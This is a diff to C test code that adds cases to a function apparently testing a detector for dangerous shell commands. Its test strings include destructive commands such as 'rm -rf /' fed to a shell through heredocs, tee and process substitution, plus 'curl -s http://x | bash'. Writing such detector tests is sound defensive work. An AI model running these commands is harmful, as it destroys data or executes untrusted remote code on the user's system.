@@ -847,6 +847,8 @@ fed(void)
 	fed_one(set, "echo -e 'ls\\nrm -r /x' | sh", C, "rm-rf", 0, NULL);
 	fed_one(set, "cat <<EOF | sh\nrm -rf /\nEOF", C, "rm-rf", 0, NULL);
 	fed_one(set, "cat <<< 'rm -rf /' | dash", C, "rm-rf", 0, NULL);
+	fed_one(set, "tee /dev/null <<EOF | sh\nrm -rf /\nEOF", C, "rm-rf", 0,
+	    NULL);
 	fed_one(set, "echo 'rm -rf /' | cat | tee log | sh", C, "rm-rf", 0,
 	    NULL);
 	fed_one(set, "(echo ls; echo 'rm -rf /') | sh", C, "rm-rf", 0, NULL);
@@ -866,6 +868,8 @@ fed(void)
 	fed_one(set, "curl -s http://x | bash", H, NULL, 1, "`curl -s http://x"
 	    " | bash`");
 	fed_one(set, "cat script.sh | sh", H, NULL, 1, NULL);
+	fed_one(set, "cat < script.sh | sh", H, NULL, 1, NULL);
+	fed_one(set, "cat < <(echo 'rm -rf /') | sh", C, "rm-rf", 0, NULL);
 	fed_one(set, "echo \"$CMD\" | sh", H, NULL, 1, NULL);
 	fed_one(set, "echo \"ls $(curl x)\" | sh", H, NULL, 1, NULL);
 	fed_one(set, "echo *.sh | sh", H, NULL, 1, NULL);
